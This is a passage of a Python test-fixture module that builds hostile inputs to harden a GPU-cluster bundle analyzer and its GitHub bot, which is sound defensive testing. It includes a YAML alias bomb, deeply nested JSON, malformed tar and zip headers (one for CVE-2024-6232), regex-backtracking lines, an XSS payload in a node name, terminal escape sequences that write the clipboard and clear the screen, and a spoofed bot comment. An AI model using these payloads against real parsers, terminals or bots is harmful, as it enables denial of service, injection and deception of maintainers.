"""Minimal hostile inputs, one per class of failure: those the fuzz run of issue 13 found
(`CASES`: builders returning the command-line arguments, run in the test process under the
contract of contract.py), and those of issue 23, each lane in its own section: hardening
(`BOUNDED`: builders returning a `Run`, run through the console script in a child process whose
CPU time and memory are measured), the bot (`BOT_CASES`) and collect (`COLLECT_CASES`)."""

from __future__ import annotations

import bz2
import datetime as dt
import gzip
import io
import json
import lzma
import os
import random
import shutil
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from conftest import SAMPLES

SAMPLE = SAMPLES / "annotation-health-omitted" / "bundle"
NODE = (SAMPLE / "node.yaml").read_text()
PLUGIN_LOG = (SAMPLE / "device-plugin.log").read_text()
REGISTER_KEY = "hami.io/node-nvidia-register: "

Case = Callable[[Path], list[str]]
CASES: dict[str, Case] = {}


def case(fn: Case) -> Case:
    CASES[fn.__name__] = fn
    return fn


def _bundle(root: Path, files: dict[str, str | bytes]) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    for name, content in files.items():
        data = content.encode() if isinstance(content, str) else content
        (root / name).write_bytes(data)
    return root


def _with_register(value: str) -> str:
    """The sample node with its register annotation replaced by a raw YAML scalar."""
    head, _, rest = NODE.partition(REGISTER_KEY)
    return head + REGISTER_KEY + value + "\n" + rest.split("\n", 1)[1]


def _issue(body: str) -> str:
    return json.dumps({"action": "opened", "issue": {"title": "GPU node", "body": body}})


# 1. a YAML alias bomb under the alias cap: 9 levels of 9 aliases
@case
def yaml_alias_bomb(d: Path) -> list[str]:
    lines = ['a0: &a0 ["x","x","x","x","x","x","x","x","x"]']
    lines += [f"a{i}: &a{i} [{','.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 10)]
    node = "\n".join(lines) + "\napiVersion: v1\nkind: Node\nmetadata: {name: gpu-1}\nspec: *a9\n"
    return [str(_bundle(d, {"node.yaml": node, "device-plugin.log": PLUGIN_LOG}))]


# 3. times outside Python's range
@case
def year_zero_timestamps_prefix(d: Path) -> list[str]:
    log = "".join(
        f"0000-08-15T09:04:5{i}.000000000Z {line}\n"
        for i, line in enumerate(PLUGIN_LOG.splitlines()[:8])
    )
    return [str(_bundle(d, {"node.yaml": NODE, "device-plugin.log": log})), "--format", "html"]


@case
def heartbeat_before_year_one(d: Path) -> list[str]:
    node = NODE.replace("'2026-08-15T10:20:00Z'", "'0001-01-01T00:00:00+14:00'")
    return [
        str(_bundle(d, {"node.yaml": node, "device-plugin.log": PLUGIN_LOG})),
        "--format",
        "json",
    ]


@case
def tar_member_mtime_far_future(d: Path) -> list[str]:
    d.mkdir(parents=True)
    with tarfile.open(d / "bundle.tar", "w") as tf:
        for name, text in (("node.yaml", NODE), ("device-plugin.log", PLUGIN_LOG)):
            data = text.encode()
            info = tarfile.TarInfo(name)
            info.size, info.mtime = len(data), 10**12
            tf.addfile(info, io.BytesIO(data))
    return [str(d / "bundle.tar"), "--format", "html"]


@case
def timeline_of_far_future_tar(d: Path) -> list[str]:
    return ["timeline", *tar_member_mtime_far_future(d)[:1]]


# 4. wrong value types in Node/Pod YAML
_POD = """apiVersion: v1
kind: Pod
metadata: {name: p, namespace: default}
spec:
  schedulerName: hami-scheduler
  containers:
  - name: c
    resources:
      limits: {nvidia.com/gpu: 1}
status: {phase: Pending}
"""


@case
def node_conditions_nan(d: Path) -> list[str]:
    node = NODE.replace("  conditions:\n", "  conditions: .nan\n  was_conditions:\n", 1)
    return [str(_bundle(d, {"node.yaml": node}))]


@case
def pod_containers_true(d: Path) -> list[str]:
    pod = _POD.split("  containers:")[0] + "  containers: true\n"
    return [str(_bundle(d, {"node.yaml": NODE, "pod.yaml": pod}))]


@case
def pod_limits_list_and_list_name(d: Path) -> list[str]:
    pod = _POD.replace("name: c", "name: [a, b]").replace("{nvidia.com/gpu: 1}", "[a, b]")
    return [str(_bundle(d, {"node.yaml": NODE, "pod.yaml": pod}))]


# 5. NaN, Infinity, 1e309 in the register annotation
@case
def register_nan_infinity(d: Path) -> list[str]:
    value = """'[{"id":"GPU-1","count":NaN,"devmem":Infinity,"devcore":1e309,"type":"A","health":true}]'"""
    return [str(_bundle(d, {"node.yaml": _with_register(value)})), "--format", "json"]


# 6. integers over 4,300 digits
@case
def register_huge_integer(d: Path) -> list[str]:
    value = '\'[{"id":"GPU-1","count":' + "9" * 5000 + ',"devmem":1,"health":true}]\''
    return [str(_bundle(d, {"node.yaml": _with_register(value)}))]


@case
def node_json_huge_integer(d: Path) -> list[str]:
    node = (
        '{"apiVersion":"v1","kind":"Node","metadata":{"name":"gpu-1","generation":'
        + "1" * 5000
        + "}}"
    )
    return [str(_bundle(d, {"node.json": node}))]


@case
def issue_event_huge_integer(d: Path) -> list[str]:
    d.mkdir(parents=True)
    raw = '{"issue":{"number":' + "7" * 5000 + ',"body":"nvml Init err"}}'
    (d / "event.json").write_text(raw)
    return ["--from-issue", str(d / "event.json")]


# 7. deeply nested issue event JSON
@case
def issue_event_deeply_nested(d: Path) -> list[str]:
    d.mkdir(parents=True)
    (d / "event.json").write_text('{"issue":' + "[" * 100_000 + "]" * 100_000 + "}")
    return ["--from-issue", str(d / "event.json")]


# 8. <pre> storms and fence storms in issue Markdown (GitHub's body limit is 65,535 characters)
@case
def issue_pre_storm(d: Path) -> list[str]:
    d.mkdir(parents=True)
    (d / "issue.json").write_text(_issue("<pre>" * 13_000))
    return ["--from-issue", str(d / "issue.json")]


@case
def issue_fence_storm(d: Path) -> list[str]:
    d.mkdir(parents=True)
    (d / "issue.md").write_text("".join(f"```\nline {i}\n```\n" for i in range(30_000)))
    return ["--from-issue", str(d / "issue.md"), "--max-members", "100"]


# 9. archive member names and compression methods
@case
def tar_non_utf8_member_name(d: Path) -> list[str]:
    d.mkdir(parents=True)
    with tarfile.open(d / "bundle.tar", "w", format=tarfile.GNU_FORMAT, encoding="latin-1") as tf:
        for name, text in (("n\xf6de.yaml", NODE), ("d\xe9vice-plugin.log", PLUGIN_LOG)):
            data = text.encode()
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return ["timeline", str(d / "bundle.tar")]


@case
def zip_deflate64_member(d: Path) -> list[str]:
    d.mkdir(parents=True)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("node.yaml", NODE)
        zf.writestr("device-plugin.log", PLUGIN_LOG)
    raw = bytearray(buf.getvalue())
    # mark the log's entry Deflate64 (method 9) in its local header and the central directory
    for sig, offset in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        at = raw.find(sig, raw.find(b"device-plugin.log") - 60 if sig == b"PK\x03\x04" else 0)
        at = raw.find(sig, raw.rfind(sig)) if sig == b"PK\x01\x02" else at
        raw[at + offset : at + offset + 2] = (9).to_bytes(2, "little")
    (d / "bundle.zip").write_bytes(bytes(raw))
    return [str(d / "bundle.zip")]


# 11. truncated and corrupt archives
@case
def truncated_tar_gz(d: Path) -> list[str]:
    d.mkdir(parents=True)
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        for name, text in (("node.yaml", NODE), ("device-plugin.log", PLUGIN_LOG * 20)):
            data = text.encode()
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    raw = buf.getvalue()
    (d / "bundle.tar.gz").write_bytes(raw[: len(raw) // 2])
    return [str(d / "bundle.tar.gz")]


@case
def corrupt_zip(d: Path) -> list[str]:
    d.mkdir(parents=True)
    (d / "bundle.zip").write_bytes(b"PK\x03\x04" + b"\x00" * 40 + b"garbage" * 100)
    return [str(d / "bundle.zip")]


# ---- Issue 23, the bot's comment and its integrity (bot lane) ------------------------------------
# The table case runs with every case above (tests/test_hardening.py). A bot case needs a GitHub:
# BOT_CASES builders take a folder and the fake GitHub's repository (tests/fake_github.py), set
# the repository up, write the event, and return the arguments of `hami-analyzer bot`; each
# case's SPOOFED entry says what must stay untouched. tests/test_action.py runs them with the real
# gh CLI under the same contract (exit 0/1/2/4, one-line errors, no traceback) plus that.


# A node name holding `|`: GFM splits a table row at every `|`, inside code spans too, so the
# multi-node table's code span ended mid-name and the rest (raw HTML, a mention) went live.
@case
def markdown_table_pipe_in_node_name(d: Path) -> list[str]:
    evil = "gpu|<img src=x onerror=alert(1)>@octocat|"
    second = NODE.replace("gpu-node-2", "'" + evil + "'")
    return [str(_bundle(d, {"node.yaml": f"{NODE}\n---\n{second}"})), "--format", "markdown"]


BotCase = Callable[[Path, object], list[str]]
BOT_CASES: dict[str, BotCase] = {}
SPOOFED: dict[str, dict] = {}  # case -> {"comment": id, "labels": {...}} that must stay as they are
ISSUE_NUMBER = 7
NVML_PASTE = (
    "The hami device plugin restarts:\n\n```\nE0815 09:06:21.709851  412873 register.go:96] "
    "nvml Init err:  ERROR_LIBRARY_NOT_FOUND\n```\n"
)


def bot_case(fn: BotCase) -> BotCase:
    BOT_CASES[fn.__name__] = fn
    return fn


def _issue_event(d: Path, repo, full_name: str, body: str) -> Path:
    d.mkdir(parents=True, exist_ok=True)
    issue = {"number": ISSUE_NUMBER, "title": "GPU node", "body": body, "user": {"login": "rep"}}
    repo.issues[ISSUE_NUMBER] = {"title": "GPU node", "body": body, "labels": set()}
    event = {"action": "edited", "issue": issue, "repository": {"full_name": full_name}}
    (d / "event.json").write_text(json.dumps(event))
    return d / "event.json"


# Another user's comment ending in the bot's hidden marker, carrying the digest of the issue's
# text, and a label of the labels map a maintainer set: the bot took the comment for its own,
# PATCHed it under that user's name (or, the digest matching, skipped the issue for good) and
# removed the label. Only a comment by the bot's own login is its comment.
@bot_case
def spoofed_marker_comment(d: Path, repo) -> list[str]:
    import hashlib

    from analyzer import __version__

    event = _issue_event(d, repo, "octo/gpu-cluster", NVML_PASTE)
    text = f"# GPU node\n\n{NVML_PASTE}"
    digest = hashlib.sha256(text.encode()).hexdigest()[:16]
    marker = f"<!-- hami-bundle-analyzer version={__version__} rules=x input={digest} -->"
    spoof = repo.add_comment(ISSUE_NUMBER, f"All fine, close this.\n{marker}\n", "eve")
    repo.issues[ISSUE_NUMBER]["labels"] = {"registration"}
    SPOOFED["spoofed_marker_comment"] = {"comment": spoof, "labels": {"registration"}}
    labels = "plugin-crash-nvml: nvml\nannotation-missing-or-stale: registration"
    return ["bot", "--event", str(event), "--labels", labels]


# ---------------------------------------------------------------------------------------------
# collect (issue 23): hostile clusters. Each builder changes a fake cluster (tests/fake_apiserver)
# the way an unlucky or hostile one would be; tests/test_collect.py runs `collect` with the
# real kubectl against it and holds the run to the contract (exit 0/2, bounded calls, no ESC or
# C1 byte on the terminal, names passed to kubectl only after `--` or checked as names).

ESCAPES = "\x1b]52;c;aGk=\x07\x1b[2J\x9b31m\x1bc"  # OSC 52, CSI, C1 CSI, RIS
ClusterCase = Callable[..., None]
COLLECT_CASES: dict[str, ClusterCase] = {}


def cluster_case(fn: ClusterCase) -> ClusterCase:
    COLLECT_CASES[fn.__name__] = fn
    return fn


@cluster_case
def many_evicted_plugin_pods(cluster, count: int = 10_000) -> None:
    """10,000 evicted device-plugin pods on the node beside the running one (a node under
    disk pressure for weeks): collect must take the running pod and a bounded few others."""
    from fake_apiserver import PLUGIN_POD

    running = cluster.pod(PLUGIN_POD)
    for i in range(count):
        pod = json.loads(json.dumps(running))
        pod["metadata"]["name"] = f"{PLUGIN_POD[:-5]}e{i:04x}"
        pod["metadata"]["uid"] = f"evicted-{i}"
        created = dt.datetime(2026, 6, 1, tzinfo=dt.UTC) + dt.timedelta(minutes=7 * i)
        pod["metadata"]["creationTimestamp"] = created.strftime("%Y-%m-%dT%H:%M:%SZ")
        pod["status"] = {"phase": "Failed", "reason": "Evicted", "containerStatuses": []}
        cluster.objects["pods"].append(pod)


@cluster_case
def escapes_in_names_and_server_messages(cluster) -> None:
    """Terminal control sequences in a HAMi pod's name, a container's name, a node name and in
    the API server's error messages (which kubectl prints as they are)."""
    from fake_apiserver import PLUGIN_POD

    evil = json.loads(json.dumps(cluster.pod(PLUGIN_POD)))
    evil["metadata"]["name"] = "dp" + ESCAPES
    evil["spec"]["nodeName"] = "gpu-node-1" + ESCAPES
    evil["spec"]["containers"][0]["name"] = "c" + ESCAPES
    cluster.objects["pods"].append(evil)
    cluster.forbidden |= {"leases", "runtimeclasses"}
    cluster.error_note = ESCAPES


# =================================================================================================
# Issue 23 (round 3), hardening: hangs and unbounded work, lost evidence, terminal injection.
# Each builder writes its input under a folder and returns a `Run`; the tests run it through the
# console script in a child process and hold it to the contract of `contract.run_bounded` (exit
# 0/1/2/4, one-line errors, no ESC/C1 byte on the terminal, at most 5 s of CPU and 512 MiB for
# an input under 1 MB, the input untouched) and to the outcome the domain calls for (`expect`).
# =================================================================================================
@dataclass
class Run:
    """A command line (`hami-analyzer ARGS`, the command first), the inputs it must leave
    untouched, and how to run it: extra environment, a small tmpfs as TMPDIR (in a private mount
    namespace)."""

    args: list[str]
    inputs: list[Path]
    env: dict[str, str] = field(default_factory=dict)
    tmpfs: Path | None = None
    # CPU seconds allowed, for an input far over the contract's 1 MB (None: the contract's)
    cpu_limit_s: float | None = None


@dataclass(frozen=True)
class Bounded:
    build: Callable[[Path], Run]
    expect: Callable[[Any], None]  # the domain's outcome, given contract.Bounded


BOUNDED: dict[str, Bounded] = {}


def bounded(expect: Callable[[Any], None]):
    def register(build: Callable[[Path], Run]) -> Callable[[Path], Run]:
        BOUNDED[build.__name__] = Bounded(build, expect)
        return build

    return register


def _header(name: str, size: int, kind: bytes) -> bytes:
    info = tarfile.TarInfo(name)
    info.size, info.type = size, kind
    return info.tobuf(tarfile.USTAR_FORMAT)


def _padded(data: bytes) -> bytes:
    return data + b"\0" * (-len(data) % 512)


def _tar_gz(d: Path, name: str, blocks: bytes) -> Path:
    """A .tar.gz of raw tar blocks written by hand (tarfile will not write hostile headers)."""
    d.mkdir(parents=True, exist_ok=True)
    data = NODE.encode()
    raw = blocks + _header("node.yaml", len(data), tarfile.REGTYPE) + _padded(data)
    (d / name).write_bytes(gzip.compress(raw + b"\0" * 1024))
    return d / name


def _code(*codes: int) -> Callable[[Any], None]:
    def check(out) -> None:
        assert out.code in codes, (out.code, out.stderr[-2000:])

    return check


def _error(*words: str) -> Callable[[Any], None]:
    def check(out) -> None:
        assert out.code == 2 and all(w in out.stderr for w in words), out.stderr

    return check


def _verdict(category: str, *words: str) -> Callable[[Any], None]:
    """JSON output whose worst node has this primary category, mentioning `words`."""

    def check(out) -> None:
        assert out.code in (0, 1, 4), (out.code, out.stderr[-2000:])
        doc = json.loads(out.stdout)
        assert doc["primary"]["category"] == category, doc["primary"]
        assert all(w in out.stdout for w in words), [w for w in words if w not in out.stdout]

    return check


# ---- hangs and unbounded work ---------------------------------------------------------------
@bounded(_verdict("plugin-crash-nvml", "nvml-driver-mismatch"))
def small_log_of_blank_lines(d: Path) -> Run:
    """A device plugin's log under 16 MiB holding 4 MiB of blank lines (a line per byte) before its error:
    a file under 16 MiB was read and segmented line by line (22 s, 1.7 GB); a log of so many
    lines is streamed."""
    head = b"I0815 00:00:00.000000       1 health.go:91] device GPU-0 is healthy\n" * 200
    error = b"E0815 10:00:00.000001       1 nvidia.go:40] nvml: Init failed: Driver/library"
    log = head + b"\n" * (4 << 20) + error + b" version mismatch\n"
    root = _bundle(d, {"node.yaml": NODE, "device-plugin.log": log})
    return Run(["analyze", str(root), "--format", "json"], [root], cpu_limit_s=10.0)


@bounded(_code(0, 1))
def text_of_four_million_lines(d: Path) -> Run:
    """4,194,304 lines of two bytes that no marker recognises: not a log, not a document; left
    out with its reason rather than segmented line by line (10 s, 1.5 GB)."""
    root = _bundle(d, {"node.yaml": NODE, "notes.txt": b"x\n" * (4 << 20)})
    return Run(["analyze", str(root), "--format", "json"], [root], cpu_limit_s=10.0)


@bounded(_code(0, 1))
def yaml_lines_of_spaces(d: Path) -> Run:
    """A Node's YAML followed by 48 column-0 lines of 20,000 spaces without a colon: the check
    for where a YAML object ends read each such line in time of its length squared (91 s for
    2 MB)."""
    tail = b"".join(b"k%d" % i + b" " * 20_000 + b"x\n" for i in range(48))
    root = _bundle(d, {"node.yaml": NODE.encode() + tail})
    return Run(["analyze", str(root), "--format", "json"], [root])


@bounded(_code(0, 1, 4))
def pod_with_runs_of_blanks(d: Path) -> Run:
    """A pod whose annotations hold runs of 40,000 blanks, beside a probe block: the search for
    the blocks left unscanned (kinds.yaml `unscanned:`) tried its `[ \\t]*` from every position
    of a run (10,000 blanks 5.7 s, 150,000 minutes)."""
    blanks = "".join(f"    note-{i}: '{' ' * 40_000}x'\n" for i in range(4))
    pod = (
        "apiVersion: v1\nkind: Pod\nmetadata:\n  name: p\n  annotations:\n" + blanks + "spec:\n"
        "  containers:\n  - image: cuda\n    livenessProbe:\n      exec:\n"
        "        command: [sh, -c, 'nvidia-smi']\n    name: c\n" + " " * 150_000 + "\n"
    )
    return Run(["analyze", str(_bundle(d, {"pod.yaml": pod})), "--format", "json"], [d])


@bounded(_code(0, 1, 4))
def describe_of_unclosed_probes(d: Path) -> Run:
    """A pod describe of 30,000 `Liveness: exec [` lines never closed by `] delay=`: the pattern
    that follows a probe's script over lines searched the rest of the text for its end from each
    of them (136 KB 8 s, 680 KB 191 s); it reads 16 lines at most."""
    head = "Name:         p\nNamespace:    ml\nStatus:       Running\nContainers:\n  c:\n"
    probes = "    Liveness:       exec [sh -c x\n" * 30_000
    root = _bundle(d, {"pod-describe.txt": head + probes + "Events:          <none>\n"})
    return Run(["analyze", str(root), "--format", "json"], [root])


@bounded(_code(0, 1))
def kubelet_lines_of_rpc_names(d: Path) -> Run:
    """A kubelet log of 100 lines of 9 KB, each a thousand "Allocate" and gRPC's size error
    without its status code: the message-size signature's prefix read back over each line from
    every position (52 s for 200 such lines)."""
    line = b"I0902 10:11:00.852365    2104 manager.go:1] " + b"Allocate " * 1000
    line += b"grpc: received message larger than max (5 vs. 4)\n"
    root = _bundle(d, {"node.yaml": NODE, "kubelet.log": line * 100})
    return Run(["analyze", str(root), "--format", "json"], [root])


@bounded(_code(0, 1, 4))
def configmap_nested_1200_deep(d: Path) -> Run:
    """A ConfigMap whose data nests 1,200 mappings deep (valid YAML, one space a level): its
    values were flattened by recursion, which overflowed (exit 3, an internal error)."""
    body = "".join(" " * i + "k:\n" for i in range(1, 1201)) + " " * 1201 + "v\n"
    doc = "apiVersion: v1\nkind: ConfigMap\nmetadata:\n name: deep\ndata:\n" + body
    root = _bundle(d, {"node.yaml": NODE, "deep.yaml": doc})
    return Run(["analyze", str(root), "--format", "json"], [root])


@bounded(_error("tar extended header of 400,001 bytes", "CVE-2024-6232"))
def tar_pax_header_400k_digits(d: Path) -> Run:
    """A 1 KB .tar.gz whose pax header holds 400,000 digits: tarfile's header regex is quadratic
    on Pythons before 3.11.10/3.12.6 (minutes in one C call)."""
    payload = b"0" * 400_000 + b"\n"
    f = _tar_gz(d, "pax.tar.gz", _header("././@PaxHeader", len(payload), b"x") + _padded(payload))
    return Run(["analyze", str(f)], [f])


@bounded(_error("too many tar extended headers"))
def tar_extended_header_chain(d: Path) -> Run:
    """5,000 pax headers in a row: tarfile recursed once per header (RecursionError, exit 3)."""
    record = b"10 a=bbbb\n"
    one = _header("././@PaxHeader", len(record), b"x") + _padded(record)
    f = _tar_gz(d, "chain.tar.gz", one * 5000)
    return Run(["analyze", str(f)], [f])


@bounded(_error("tar extended header of 16,777,217 bytes"))
def tar_gnu_long_name_16mib(d: Path) -> Run:
    """A GNU long-name header (`L`) naming a 16 MiB member in a 16 KB archive: the name was read
    whole and copied many times (128 MiB names peaked at 13 GB)."""
    name = b"a" * (16 << 20) + b"\0"
    f = _tar_gz(d, "longname.tar.gz", _header("././@LongLink", len(name), b"L") + _padded(name))
    return Run(["analyze", str(f)], [f])


@bounded(_error("archive member name of 60,000 characters"))
def zip_member_name_60k(d: Path) -> Run:
    """A zip member name of 60,000 characters (zip allows 65,535) is no file name."""
    d.mkdir(parents=True)
    with zipfile.ZipFile(d / "b.zip", "w") as zf:
        zf.writestr("n" * 60_000, "x")
        zf.writestr("node.yaml", NODE)
    return Run(["analyze", str(d / "b.zip")], [d / "b.zip"])


def _base60(n: int) -> str:
    return ":".join(["1"] * n)


@bounded(_verdict("inconclusive"))
def yaml_base60_integer_in_node(d: Path) -> Run:
    """256 KB of YAML 1.1 base-60 integer (`1:1:1:...`) as a node label: PyYAML's SafeLoader
    converts it in quadratic time (~15 s); the analyzer reads it as a string."""
    node = "apiVersion: v1\nkind: Node\nmetadata:\n  name: gpu-1\n  labels:\n"
    node += f"    x: {_base60(128_000)}\n"
    return Run(["analyze", str(_bundle(d, {"node.yaml": node})), "--format", "json"], [d])


@bounded(_code(0, 1, 4))
def yaml_base60_float_in_helm_values(d: Path) -> Run:
    """A base-60 float (`1:...:1.5`) in helm values: PyYAML overflowed converting it to a float
    (OverflowError, exit 3)."""
    values = "devicePlugin:\n  deviceSplitCount: 10\nscheduler:\n"
    values += f"  x: {_base60(2000)}.5\n"
    files = {"node.yaml": NODE, "device-plugin.log": PLUGIN_LOG, "values.yaml": values}
    return Run(["analyze", str(_bundle(d, files)), "--format", "json"], [d])


@bounded(_code(0, 1, 4))
def yaml_base60_in_issue_block(d: Path) -> Run:
    """The same in a Node block of an issue (the bot's path)."""
    d.mkdir(parents=True)
    node = NODE.replace("  labels:\n", f"  labels:\n    x: {_base60(128_000)}\n", 1)
    (d / "issue.md").write_text(f"GPU node broken\n\n```yaml\n{node}\n```\n")
    return Run(["analyze", "--from-issue", str(d / "issue.md"), "--format", "json"], [d])


@bounded(_code(0, 1, 4))
def node_yaml_long_indent_then_dash(d: Path) -> Run:
    """A line of 10,000 spaces then `- x` in node.yaml: the node parser's line-locating regex
    was cubic in the indent (3,000 spaces 19 s, 10 KB about 12 minutes)."""
    node = NODE + " " * 10_000 + "- x\n"
    return Run(
        ["analyze", str(_bundle(d, {"node.yaml": node, "device-plugin.log": PLUGIN_LOG}))], [d]
    )


@bounded(_code(0, 1, 4))
def issue_node_block_long_indent(d: Path) -> Run:
    """The same line in an issue's Node block."""
    d.mkdir(parents=True)
    (d / "issue.md").write_text(f"```yaml\n{NODE}{' ' * 10_000}- x\n```\n")
    return Run(["analyze", "--from-issue", str(d / "issue.md")], [d])


@bounded(_verdict("inconclusive", "node gpu-1 is shown 1000 times"))
def many_documents_same_node(d: Path) -> Run:
    """1,000 identical `kind: Node` documents (59 KB): 20 s, super-linear; now one node."""
    doc = "apiVersion: v1\nkind: Node\nmetadata:\n  name: gpu-1\n  labels: {gpu: 'on'}\n"
    return Run(
        ["analyze", str(_bundle(d, {"node.yaml": "---\n".join([doc] * 1000)})), "-f", "json"], [d]
    )


@bounded(_verdict("inconclusive", "1700 nodes in the bundle: 50 are analysed"))
def issue_list_of_1700_nodes(d: Path) -> Run:
    """A `kind: List` of 1,700 minimal Node items in an issue body under GitHub's 65,536
    characters: each node re-scanned the whole text (35 s); now located in one pass, and the
    analysis capped at 50 nodes with a warning naming the others."""
    d.mkdir(parents=True)
    items = "".join(f"- kind: Node\n  metadata: {{name: n{i}}}\n" for i in range(1700))
    body = f"```yaml\napiVersion: v1\nkind: List\nitems:\n{items}```\n"
    assert len(body) < 65_536
    (d / "event.json").write_text(_issue(body))
    return Run(["analyze", "--from-issue", str(d / "event.json"), "--format", "json"], [d])


def _batch_rows(out_dir: Path) -> dict[str, dict]:
    import polars as pl

    rows = pl.read_parquet(out_dir / "bundles.parquet").to_dicts()
    return {Path(r["id"]).name: r for r in rows}


def _special_files_rows(out) -> None:
    assert out.code == 0, out.stderr[-2000:]
    rows = _batch_rows(Path(out.stdout.split(" -> ")[1].split("/bundles.parquet")[0]))
    assert rows["good"]["error"] is None and rows["good"]["category"] == "healthy"
    for special in ("pipe", "zero"):
        assert "not a regular file" in rows[special]["error"], rows[special]


@bounded(_special_files_rows)
def batch_fifo_and_dev_zero(d: Path) -> Run:
    """Ticket entries that are a FIFO and a symlink to /dev/zero: the duplicate digest opened and
    read them first (for good); now each is its row's error and the batch goes on."""
    tickets = d / "tickets"
    shutil.copytree(SAMPLES / "healthy-single-gpu" / "bundle", tickets / "good")
    os.mkfifo(tickets / "pipe")
    (tickets / "zero").symlink_to("/dev/zero")
    return Run(["batch", str(tickets), "--out", str(d / "out"), "-j", "1"], [tickets / "good"])


_STUCK_HOOK = """
import os, time


def _stuck_on_bundles_named_stuck():
    import analyzer.analyze as module

    real = module.load_bundle

    def load_bundle(paths, ruleset, **kwargs):
        if os.path.basename(str(paths[0])) == "stuck":
            time.sleep(3600)  # one long C call: the in-thread time limit cannot interrupt it
        return real(paths, ruleset, **kwargs)

    module.load_bundle = load_bundle


_stuck_on_bundles_named_stuck()
"""


def _stuck_rows(out) -> None:
    assert out.code == 0, out.stderr[-2000:]
    rows = _batch_rows(Path(out.stdout.split(" -> ")[1].split("/bundles.parquet")[0]))
    assert rows["stuck"]["error"] == "timed out after 1s", rows["stuck"]
    for after in ("good", "zz-after"):  # zz-after was queued behind the stuck one: a new worker
        assert rows[after]["error"] is None and rows[after]["category"] == "healthy", rows[after]
    assert out.wall_s < 60, out.summary()


@bounded(_stuck_rows)
def batch_worker_stuck_in_c_call(d: Path) -> Run:
    """A worker inside one long C call (a sitecustomize hook makes the bundle named `stuck` sleep
    for an hour): --bundle-timeout could not stop it; the watchdog kills and replaces it."""
    tickets = d / "tickets"
    shutil.copytree(SAMPLES / "healthy-single-gpu" / "bundle", tickets / "good")
    shutil.copytree(SAMPLES / "rbac-patch-forbidden" / "bundle", tickets / "stuck")
    shutil.copytree(SAMPLES / "healthy-single-gpu" / "bundle", tickets / "zz-after")
    (tickets / "zz-after" / "note.txt").write_text("not a byte-identical copy of good\n")
    (d / "hook").mkdir()
    (d / "hook" / "sitecustomize.py").write_text(_STUCK_HOOK)
    args = ["batch", str(tickets), "--out", str(d / "out"), "-j", "1", "--bundle-timeout", "1"]
    return Run(args, [tickets], env={"PYTHONPATH": str(d / "hook")})


def _regex_timed_out(out) -> None:
    assert out.code in (0, 1, 4), (out.code, out.stderr[-2000:])
    assert "regex timed out on" in out.stdout and "read as no match" in out.stdout


# a line that makes the signature nvidia-device-plugin-nvml-init-failed backtrack for seconds
_SLOW_LINE = (
    "E0815 09:06:21.709851  412873 x.go:96] Failed to initialize NVML: " + " " * 30_000 + "x"
)


@bounded(_regex_timed_out)
def log_line_regex_timeout(d: Path) -> Run:
    """A 30 KB log line on which a signature's regex runs past its 0.25 s: exit 3 (TimeoutError
    in the log attribution); now no match there, and a rule error saying so."""
    log = PLUGIN_LOG + _SLOW_LINE + "\n"
    return Run(["analyze", str(_bundle(d, {"node.yaml": NODE, "device-plugin.log": log}))], [d])


@bounded(_regex_timed_out)
def issue_log_line_regex_timeout(d: Path) -> Run:
    """The same line pasted in an issue (the bot's path)."""
    d.mkdir(parents=True)
    (d / "issue.md").write_text(f"plugin log:\n\n```\n{_SLOW_LINE}\n```\n")
    return Run(["analyze", "--from-issue", str(d / "issue.md")], [d])


@bounded(_code(0, 1, 4))
def pasted_line_of_kubectl_words(d: Path) -> Run:
    """A 128 KB pasted line of `kubectl kubectl ...`: the search for a `kubectl get` command line
    retried from every word to the end of the line (quadratic: 64 KB took 16 s, 1 MiB hours)."""
    d.mkdir(parents=True)
    (d / "issue.md").write_text("```\n$ " + "kubectl " * 16_000 + "\nNo resources found.\n```\n")
    return Run(["analyze", "--from-issue", str(d / "issue.md")], [d])


@bounded(_code(0, 1, 4))
def scheduling_summary_of_digits(d: Path) -> Run:
    """A scheduler log whose summaries hold a 6,000-digit run before "1 node unregistered" (a
    lazy run before a count retried it from every digit: 140 s for 6 MB, 56 s for these 2.4 MB), and one whose node
    count has 5,000 digits (int() refuses more than 4,300: an internal error)."""
    d.mkdir(parents=True)
    head = 'I0101 00:00:00.000000       1 schedule_one.go:1] "Unable to schedule pod" err="0/'
    lines = [head + "3 nodes are available: " + "7" * 6000 + 'x, 1 node unregistered."']
    lines.append(
        'err="' + "7" * 6000 + '/3 nodes are available: 1 node unregistered."'
    )  # before "/"
    lines *= 200
    lines.append(
        head + "9" * 5000 + ' nodes are available: 1 node unregistered, 2 Insufficient cpu."'
    )
    (d / "scheduler.log").write_text("\n".join(lines) + "\n")
    return Run(["analyze", str(d), "--format", "json"], [d])


@bounded(_code(0, 1, 4))
def pasted_near_log_lines(d: Path) -> Run:
    """A 2 MiB issue of lines that open like a journal's (`Jan  1 00:00:00 host xxx...`) but hold
    no colon after the unit: the reader of unfenced log lines must reject each in one pass."""
    d.mkdir(parents=True)
    line = "Jan  1 00:00:00 host " + "x" * 4000 + "\n"
    (d / "issue.md").write_text(line * ((2 << 20) // len(line)))
    return Run(["analyze", "--from-issue", str(d / "issue.md")], [d])


@bounded(_code(0, 1, 4))
def framed_pastes(d: Path) -> Run:
    """A terminal frame's bar opening 2 MiB of lines in a file and in an issue, and 2 MiB of bars
    alone: taking the frame off must be one pass over each line, not a search from each bar."""
    d.mkdir(parents=True)
    line = "\u2502 I0908 02:12:23.339234 1 main.go:117] " + "x \u2502" * 500 + "\n"
    body = line * ((2 << 20) // len(line.encode()))
    (d / "device-plugin.log").write_text(body)
    (d / "bars.txt").write_text("\u2502" * (1 << 20) + "\n\u2502\n\u2502\n")
    (d / "issue.md").write_text("k9s shows:\n" + body)
    return Run(["analyze", str(d), "--format", "json"], [d])


@bounded(_verdict("device-unhealthy"))
def log_of_blank_lines(d: Path) -> Run:
    """A plugin log whose lines are then 48 MiB of blank ones: recognition's line patterns
    (`^\\s*...`, where `\\s` takes the newline) read every blank line from every blank line of
    the 200,000-character head (hours, in one C call); the byte scan kept every line's end."""
    d.mkdir(parents=True)
    (d / "node.yaml").write_text(NODE)
